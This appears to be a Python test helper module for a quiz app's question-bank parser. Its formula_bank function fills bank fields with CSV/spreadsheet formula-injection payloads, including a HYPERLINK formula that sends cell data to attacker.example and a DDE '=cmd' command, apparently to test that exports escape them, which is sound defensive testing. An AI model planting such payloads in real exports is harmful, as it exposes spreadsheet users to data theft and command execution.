"""Helpers for the bank tests (plain functions: tests/conftest.py belongs to the app tests)."""

from __future__ import annotations

import dataclasses
from pathlib import Path

from quizapp.banks import Bank, ParseResult, parse_bank

FIXTURES = Path(__file__).parent / "fixtures"
DOCS = Path(__file__).parents[2] / "docs"
EXAMPLE = DOCS / "example-bank.yaml"


def parse(text: str | bytes, filename: str = "bank.yaml", **options: object) -> ParseResult:
    """Parse text (or bytes) as if uploaded under ``filename``."""
    data = text.encode("utf-8") if isinstance(text, str) else text
    return parse_bank(data, filename, **options)  # type: ignore[arg-type]


def fixture(name: str, **options: object) -> ParseResult:
    """Parse a file from tests/banks/fixtures."""
    return parse((FIXTURES / name).read_bytes(), name, **options)


def errors(result: ParseResult) -> list[tuple[int | None, str | None, str]]:
    """The errors as (line, question id, message) triples."""
    return [(p.line, p.question_id, p.message) for p in result.errors]


def error_text(result: ParseResult) -> str:
    """All problems formatted one per line, for substring assertions with useful failures."""
    return "\n".join(str(p) for p in result.problems)


def example_bank() -> Bank:
    """The bank in docs/example-bank.yaml."""
    result = parse(EXAMPLE.read_bytes(), "example-bank.yaml")
    assert result.bank is not None, error_text(result)
    return result.bank


def without_lines(bank: Bank) -> Bank:
    """The bank with every question's line cleared (for comparing field by field)."""
    return dataclasses.replace(
        bank, questions=tuple(dataclasses.replace(q, line=None) for q in bank.questions)
    )


def formula_bank() -> Bank:
    """A bank whose ids, texts and details start with spreadsheet formulas."""
    bank = example_bank()
    first, second, *rest = bank.questions
    choices = tuple(
        dataclasses.replace(c, text=t)
        for c, t in zip(first.choices, ["@SUM(1+1)", "'=already quoted", "-2+3"], strict=False)
    )
    first = dataclasses.replace(
        first,
        # Ids have no spaces; the other classic payloads go into the texts.
        key='=HYPERLINK("http://attacker.example")',
        prompt="=cmd|' /C calc'!A0",
        explanation='=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
        choices=choices,
        tags=("-tag", "=tag"),
        source_section="@SUM(1+1)",
    )
    second = dataclasses.replace(
        second, key="-2+3", prompt="\t=1+1 in a code block", explanation="+1+1"
    )
    topics = (dataclasses.replace(bank.topics[0], name="+1+1", description="a;=1+1,@x"),)
    return dataclasses.replace(
        bank,
        title='=HYPERLINK("http://attacker.example","Title")',
        description="first,=1+1;+2\t-3",
        source="@SUM(1+1)",
        topics=topics + bank.topics[1:],
        questions=(first, second, *rest),
    )
